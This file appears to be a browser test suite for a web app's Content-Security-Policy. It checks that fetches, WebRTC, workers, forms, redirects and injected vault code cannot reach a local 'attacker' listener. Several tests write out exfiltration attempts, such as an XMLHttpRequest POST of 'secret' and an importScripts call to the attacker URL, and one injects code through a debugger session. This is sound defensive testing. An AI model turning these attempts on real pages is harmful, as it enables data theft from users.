// Nothing leaves the page: neither in a whole run, nor when a script in it tries.

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import { pathToFileURL } from 'node:url';

import { ABSENT, arm, IN_A_WORKER, ON_THE_PAGE, OPEN, pathOf, UNTOLD, WEBRTC, without } from './lib/attacks.mjs';
import { folder, HTML, pageText } from './lib/environment.mjs';
import { inBoth, isChromium, ORIGINS, only, titled } from './lib/matrix.mjs';
import { record } from './lib/recorder.mjs';
import { listenUdp, serve } from './lib/server.mjs';
import { until } from './lib/until.mjs';
import { World } from './lib/world.mjs';

const world = new World();
/** The listener that attacks report to. Its own page has no policy: there each attack succeeds. */
let attacker;
let udp;
let target;

before(async () => {
  attacker = await serve({ '/': '<!doctype html><title>no policy</title><body>' });
  udp = await listenUdp();
  target = { http: attacker.address('localhost', '/attack'), ws: attacker.address('localhost', '/attack').replace('http', 'ws'), udp: udp.port };
});

beforeEach(() => {
  attacker.log.length = 0;
  udp.log.length = 0;
});

after(async () => {
  await world.close();
  await attacker.close();
  await udp.close();
});

/** Runs attacks where `evaluate` leads, one after the other, and returns their outcomes. */
async function attack(evaluate, names) {
  for (const name of names) {
    await evaluate((attacked, where) => self.attack(attacked, where), name, target);
    await until(`an outcome of ${name}`, () => evaluate((attacked) => self.outcomes[attacked] ?? '', name));
  }
  return evaluate(() => self.outcomes);
}

/** A blob worker that is armed; `texts` are the ids of the page's inert texts that it begins with. */
function startWorker(page, texts) {
  return page.evaluate(async (ids, source) => {
    const parts = ids.map((id) => document.getElementById(id).textContent);
    const answer = 'self.addEventListener("message", ({ data }) => { if (data.attack) self.attack(data.attack, data.target);'
      + ' else if (data.ask) self.postMessage({ outcomes: self.outcomes, violations: self.violations }); });';
    const blob = new Blob([...parts, `;(${source})();${answer}`], { type: 'text/javascript' });
    const worker = new Worker(URL.createObjectURL(blob));
    self.outcomes = {};
    self.violations = [];
    worker.addEventListener('message', ({ data }) => {
      if (data?.outcomes) Object.assign(self, data);
    });
    self.attack = (name, where) => worker.postMessage({ attack: name, target: where });
    self.ask = () => worker.postMessage({ ask: true });
  }, texts, arm.toString());
}

async function attackInWorker(page, names) {
  for (const name of names) {
    await page.evaluate((attacked, where) => self.attack(attacked, where), name, target);
    await until(`an outcome of ${name} in a worker`, () => page.evaluate((attacked) => {
      self.ask();
      return self.outcomes[attacked] ?? '';
    }, name));
  }
  return page.evaluate(() => self.outcomes);
}

const assertRefused = (visit, outcomes, names) => {
  for (const name of names) assert.match(outcomes[name], /^refused/, `${name}: ${outcomes[name]}`);
  // Firefox tells of each refusal as of an error.
  visit.errors.length = 0;
  assert.deepEqual(attacker.log, []);
  assert.deepEqual(udp.log, []);
};

for (const { browser } of inBoth()) {
  test(`${browser}: without the policy each attack reaches the listener (so the tests below can fail)`, async () => {
    // Each in a tab of its own: some of them leave the page, or open another, and are still on their way when they are seen.
    // So their profile stays open to the end.
    const { page: first } = await world.tab({ browser, origin: 'localhost', language: 'fr' });
    const profile = first.browserContext();
    const bare = async () => {
      const page = await world.page(profile);
      await page.goto(attacker.address('localhost'));
      return page;
    };
    const begin = (page, name, where = target) => page.evaluate((attacked, at) => self.attack(attacked, at), name, where);
    const arrives = (name) => until(`${name} reaches the listener`, () => attacker.log.some((line) => line.endsWith(pathOf(name))));
    try {
      for (const name of without(browser, ON_THE_PAGE, ABSENT)) {
        const page = await bare();
        await page.evaluate(arm);
        await begin(page, name);
        await arrives(name);
      }
      for (const name of without(browser, WEBRTC, ABSENT)) {
        // A listener of its own: those before go on asking theirs.
        const own = await listenUdp();
        const page = await bare();
        await page.evaluate(arm);
        await begin(page, name, { ...target, udp: own.port });
        await until(`${name} reaches the listener`, () => own.log.length > 0);
        await own.close();
      }
      const page = await bare();
      // What this engine is said not to have, it has not.
      assert.equal(await page.evaluate(() => 'RTCPeerConnection' in self), without(browser, WEBRTC, ABSENT).length > 0);
      attacker.log.length = 0;
      await startWorker(page, []);
      for (const name of IN_A_WORKER) {
        await begin(page, name);
        await arrives(name);
      }
      const seen = await record(page, browser);
      await startWorker(page, []);
      await begin(page, 'fetch');
      await until('the recorder sees a request of a worker', () => seen.some((url) => url.endsWith('/attack/fetch')));
    } finally {
      await profile.close();
    }
  });
}

for (const place of only({ language: 'fr' })) {
  test(`${titled(place)}: a whole run asks the network for nothing but the document`, async () => {
    const visit = await world.tab(place);
    const server = await world.server();
    server.log.length = 0;
    try {
      const seen = await record(visit.page, place.browser);
      await visit.open();
      const { file } = await visit.wholeRun();
      await visit.download(() => visit.click('#org-sign-pem'));
      await visit.click('#org-sign-copy');
      await visit.go('#/dossier');
      await visit.give('#open-file', file.name, file.bytes);
      await visit.sees('#notice p');
      for (const hash of ['#/verification', '#/a-propos', '#/']) await visit.go(hash);
      // Neither WebDriver BiDi nor a proxy tells of a document that is a local file.
      const isUntold = !isChromium(place) && place.origin === 'file';
      assert.deepEqual(seen, isUntold ? [] : [visit.address]);
      assert.deepEqual(server.log, place.origin === 'file' ? [] : ['GET /']);
      visit.assertQuiet();
    } finally {
      await visit.page.browserContext().close();
    }
  });

  test(`${titled(place)}: on the page, each attack is refused`, () => world.visit(place, async (visit) => {
    await visit.page.evaluate(arm);
    const refused = without(place.browser, ON_THE_PAGE, OPEN, UNTOLD);
    assertRefused(visit, await attack((...call) => visit.page.evaluate(...call), refused), refused);
    const spoken = await visit.page.evaluate(() => self.violations);
    for (const directive of ['connect-src', 'img-src', 'script-src-elem']) {
      assert.ok(spoken.includes(directive), `${directive} spoke: ${spoken}`);
    }
    assert.equal(await visit.page.evaluate(() => location.href.split('#')[0]), visit.address);
    const isThere = await visit.page.evaluate(() => 'WebTransport' in self);
    if (isChromium(place) && ORIGINS[place.origin].secure) assert.ok(isThere, 'Chromium has WebTransport here');
    if (isThere) assertRefused(visit, await attack((...call) => visit.page.evaluate(...call), ['WebTransport']), ['WebTransport']);
  }));

  for (const name of OPEN[place.browser] ?? []) {
    test(`${titled(place)}: what docs/security.md says that nothing refuses gets through: ${name}`, () => world.visit(place, async (visit) => {
      await visit.page.evaluate(arm);
      await visit.page.evaluate((attacked, at) => self.attack(attacked, at), name, target);
      await until(`${name} reaches the listener`, () => attacker.log.some((line) => line.endsWith(pathOf(name))));
    }));
  }

  for (const name of UNTOLD[place.browser] ?? []) {
    test(`${titled(place)}: nothing comes of it, without a word: ${name}`, () => world.visit(place, async (visit) => {
      await visit.page.evaluate(arm);
      await visit.page.evaluate((attacked, at) => self.attack(attacked, at), name, target);
      // Without the policy it has long arrived by then.
      await visit.page.evaluate(() => new Promise((done) => { setTimeout(done, 2000); }));
      assert.equal(await visit.page.evaluate(() => location.href.split('#')[0]), visit.address);
      assertRefused(visit, {}, []);
    }));
  }

  test(`${titled(place)}: there is no WebRTC, nor does a frame bring it back`, () => world.visit(place, async (visit) => {
    const left = await visit.page.evaluate(() => Object.getOwnPropertyNames(window)
      .filter((name) => /RTC(PeerConnection|DataChannel)$/.test(name) && window[name] !== undefined));
    assert.deepEqual(left, []);
    await visit.page.evaluate(arm);
    assertRefused(visit, await attack((...call) => visit.page.evaluate(...call), WEBRTC), WEBRTC);
    assert.equal(await visit.page.evaluate(() => {
      delete window.RTCPeerConnection;
      return typeof window.RTCPeerConnection;
    }), 'undefined');
  }));

  test(`${titled(place)}: what has the browser connect, or leave the page, is neither made nor copied`, () => world.visit(place, async (visit) => {
    const outcomes = await visit.page.evaluate(() => {
      const range = document.createRange();
      range.selectNode(document.querySelector('link'));
      const tries = {
        ...Object.fromEntries(['link', 'meta', 'base', 'area', 'x:LINK'].map((name) => [name, () => (
          name.includes(':') ? document.createElementNS('http://www.w3.org/1999/xhtml', name.toLowerCase()) : document.createElement(name))])),
        'a copy': () => document.querySelector('link').cloneNode(),
        'a copy of the whole': () => document.head.cloneNode(true),
        'a copy of the document': () => document.cloneNode(true),
        'a copy brought in': () => document.importNode(document.querySelector('meta')),
        'a copy of a range': () => range.cloneContents(),
        'a shadow': () => document.createElement('div').attachShadow({ mode: 'closed' }),
        'a key pressed': () => document.querySelector('nav a').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter' })),
      };
      return Object.entries(tries).map(([name, attempt]) => {
        try {
          return `${name}: ${attempt()}`;
        } catch (error) {
          return error.name;
        }
      });
    });
    assert.deepEqual([...new Set(outcomes)], ['TypeError']);
  }));

  test(`${titled(place)}: in a worker made as the vault is made, each attack is refused`, () => world.visit(place, async (visit) => {
    await startWorker(visit.page, ['glue', 'worker']);
    assertRefused(visit, await attackInWorker(visit.page, IN_A_WORKER), IN_A_WORKER);
    // WebKit tells a worker of no refusal.
    if (place.browser === 'webkit') return;
    const spoken = await visit.page.evaluate(() => self.violations);
    assert.ok(spoken.includes('connect-src'), `connect-src spoke: ${spoken}`);
  }));
}

for (const place of only({ browser: 'chromium', origin: 'intranet', language: 'fr' })) {
  test(`${titled(place)}: in the vault itself, while it makes a key of 4096 bits, each attack is refused`, () => world.visit(place, async (visit) => {
    await visit.describe();
    await visit.click('.org-auth-cli summary');
    await visit.choose('#org-auth-cli-size', '4096');
    await visit.page.evaluate(() => {
      self.heard = [];
      new BroadcastChannel('attack').onmessage = ({ data }) => self.heard.push(data);
    });
    // The vault is stopped before its first line, and armed: it attacks when it first tells of its work.
    const session = await visit.page.createCDPSession();
    session.on('Target.attachedToTarget', async ({ sessionId }) => {
      const vault = session.connection().session(sessionId);
      await vault.send('Runtime.evaluate', { expression: `(${arm})(); (${attackWhileWorking})(${JSON.stringify(IN_A_WORKER)}, ${JSON.stringify(target)})` });
      await vault.send('Runtime.runIfWaitingForDebugger');
    });
    await session.send('Target.setAutoAttach', { autoAttach: true, waitForDebuggerOnStart: true, flatten: true });
    await visit.order();
    const [heard] = await until('word from the vault', () => visit.page.evaluate(() => (self.heard.length > 0 ? self.heard : null)));
    assert.match(heard.stage, /^stage \d/, 'it was at work');
    assert.equal(heard.vault, 'function', 'it was the vault');
    assert.equal(heard.webrtc, 'undefined');
    assert.match(heard.importScripts, /NetworkError|TypeError/);
    assert.match(heard.XMLHttpRequest, /NetworkError/);
    await visit.both('locked');
    // The seal has a vault too, which is armed when it starts: the tab is not closed under it.
    await visit.says('seal-verified', {}, '#seal-state');
    assert.deepEqual(attacker.log, []);
  }));
}

/** In the vault: waits for its first word about the key, and then tries everything at once. */
function attackWhileWorking(names, target) {
  const post = self.postMessage.bind(self);
  let words = 0;
  const thrown = (action) => {
    try {
      action();
      return 'got through';
    } catch (error) {
      return String(error);
    }
  };
  self.postMessage = (message, ...more) => {
    if (message instanceof Uint8Array) {
      words += 1;
      // The second word: the first may be that it starts.
      if (words === 2) {
        for (const name of names) self.attack(name, target);
        new BroadcastChannel('attack').postMessage({
          stage: `stage ${words}`,
          vault: typeof wasm_bindgen.vault,
          webrtc: typeof self.RTCPeerConnection,
          importScripts: thrown(() => importScripts(`${target.http}/importScripts`)),
          XMLHttpRequest: thrown(() => {
            const request = new XMLHttpRequest();
            request.open('POST', `${target.http}/XMLHttpRequest`, false);
            request.send('secret');
          }),
        });
      }
    }
    return post(message, ...more);
  };
}

for (const { browser } of inBoth()) {
  test(`${browser}: what was offered as a download opens as no page`, () => world.visit({ browser, origin: 'localhost', language: 'fr' }, async (visit) => {
    const { bytes } = await visit.download(() => visit.page.evaluate(({ http }) => {
      const page = new Blob([`<meta http-equiv="refresh" content="0;url=${http}/offered">`], { type: 'text/html' });
      self.offered = Object.assign(document.createElement('a'), { href: URL.createObjectURL(page), download: 'page.html' });
      self.offered.click();
    }, target));
    assert.match(bytes.toString(), /refresh/);
    await visit.page.evaluate(() => location.assign(self.offered.href));
    assert.ok(await visit.has('#page-title'));
    assertRefused(visit, {}, []);
  }));

  test(`${browser}: a form that the user is made to send is refused`, () => world.visit({ browser, origin: 'localhost', language: 'fr' }, async (visit) => {
    await visit.page.evaluate(arm);
    await visit.page.evaluate(({ http }) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${http}/form` });
      form.append(Object.assign(document.createElement('button'), { id: 'bait', textContent: 'x' }));
      document.querySelector('main').prepend(form);
    }, target);
    await visit.click('#bait');
    await until('form-action speaks', () => visit.page.evaluate(() => self.violations.includes('form-action')));
    assertRefused(visit, {}, []);
  }));
}

for (const place of inBoth()) {
  // Puppeteer allows it in Firefox; the tests have taken that back.
  test(`${titled(place)}: a local file may not read its neighbours`, async () => {
    const where = folder('neighbours');
    writeFileSync(path.join(where, 'neighbour.txt'), 'secret');
    writeFileSync(path.join(where, 'page.html'), '<!doctype html><title>no policy</title>');
    const visit = await world.tab(place);
    await visit.page.goto(pathToFileURL(path.join(where, 'page.html')).href);
    const read = await visit.page.evaluate(() => fetch('neighbour.txt').then((answer) => answer.text(), String));
    assert.match(read, /TypeError/);
    await visit.page.browserContext().close();
  });
}

test('the page names no address that a browser would fetch', () => {
  const html = pageText();
  const head = html.slice(0, html.indexOf('<script'));
  assert.match(head, /<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
  assert.ok(head.indexOf('Content-Security-Policy') < head.indexOf('<link'), 'the policy comes first');
  const fetched = [...html.matchAll(/<(?:link|script|img|iframe)\b[^>]*?\b(?:href|src)="([^"]*)"/g)].map(([, address]) => address);
  assert.ok(fetched.every((address) => address.startsWith('data:')), fetched.join('\n'));
  assert.equal(readFileSync(HTML).includes(Buffer.from('\r')), false, 'the hashes are over exact bytes');
});
